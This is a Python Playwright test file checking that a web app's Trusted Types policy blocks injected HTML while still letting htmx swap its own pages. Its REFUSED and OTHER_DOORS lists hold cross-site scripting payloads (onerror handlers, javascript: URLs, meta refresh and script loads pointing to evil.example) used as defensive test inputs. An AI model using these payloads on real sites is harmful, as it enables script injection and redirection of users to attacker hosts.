"""Trusted Types in a real browser: what htmx brings passes our policy, and what could run is refused as a whole."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext, Error, Page, expect

from linksnap.models import User
from tests.kept import link_of
from tests.people import person

pytestmark = pytest.mark.browser
Come = Callable[..., BrowserContext]
_PUT = "html => {const box = document.createElement('div'); box.innerHTML = html; document.body.append(box)}"
REFUSED = [
    "<script>document.title = 'ran'</script>",
    "<script src='data:text/javascript,0'></script>",
    "<script src='/s/0123/html'></script>",
    "<svg><script type='application/json' href='data:text/javascript,0'></script></svg>",
    "<img src=x onerror=\"document.title = 'ran'\">",
    "<a href='java\tscript:document.title = 1'>点</a>",
    "<form action='javascript:1'></form>",
    "<iframe srcdoc='<p>x'></iframe>",
    "<template><p onclick='1'>藏</p></template>",
    "<object data='/x'></object>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<noscript><meta http-equiv='refresh' content='0;url=https://evil.example/'></noscript>",
    "<!doctype html><body><noscript><meta http-equiv='refresh' content='0;url=https://evil.example/'></noscript>",
    "<meta name='referrer' content='unsafe-url'>",
    "<svg><a><animate attributeName=href values='javascript:1'/></a></svg>",
]

OTHER_DOORS = [
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'",
    "document.createElement('script').text = 'document.title = 1'",
    "trustedTypes.createPolicy('another', {createHTML: html => html})",
    "trustedTypes.createPolicy('default', {createHTML: html => html})",
]


@pytest.fixture
def page(visit: Come, breaks_policy: None) -> Page:
    page = visit(person("alice")).new_page()
    page.goto("/")
    return page


def refusal(page: Page, code: str, html: str | None = None) -> str:
    """What the browser says to a script; nothing when it ran."""
    try:
        page.evaluate(code, html)
    except Error as error:
        return error.message
    return ""


def test_it_refuses_what_could_run(page: Page) -> None:
    said = {html: refusal(page, _PUT, html) for html in REFUSED}
    assert {html: words for html, words in said.items() if "TrustedHTML" not in words} == {}


def test_it_takes_what_our_pages_are_made_of(page: Page) -> None:
    icon = "<svg><use href='/static/i.svg#x'/></svg>"
    data = "<script type='application/json' id='passkey'>{}</script>"
    html = f"{data}<form method='post' action='/language/'><p lang='zh' hx-get='/x'>行高</p>{icon}</form>"
    page.evaluate(_PUT, html)
    expect(page.get_by_text("行高")).to_be_visible()
    # What htmx gets of the server: the whole page, of which it takes a part.
    whole = page.evaluate("() => fetch('/captures/').then(answer => answer.text())")
    page.evaluate(_PUT, whole)


def test_it_leaves_no_other_door(page: Page) -> None:
    said = {code: refusal(page, f"() => {{{code}}}") for code in OTHER_DOORS}
    assert {code: words for code, words in said.items() if not re.search("Trusted|policy", words)} == {}


def test_it_lets_htmx_swap_fragments_and_whole_pages(visit: Come) -> None:
    alice: User = person("alice")
    link_of(alice, "https://zili.example/排版", "中文网页排版")
    page = visit(alice).new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.goto("/")
    page.get_by_role("button", name="Favourite").first.click()
    expect(page.get_by_role("button", name="Favourite").first).to_have_attribute("aria-pressed", "true")
    page.locator(".tagfind input").press_sequentially("排")
    expect(page.locator("#side-tags")).to_be_attached()
    page.locator("#add-url").fill("https://zili.example/行高")
    page.locator("form.add button[type=submit]").click()
    expect(page.locator("#tray")).to_contain_text("zili.example")
    assert complaints == []
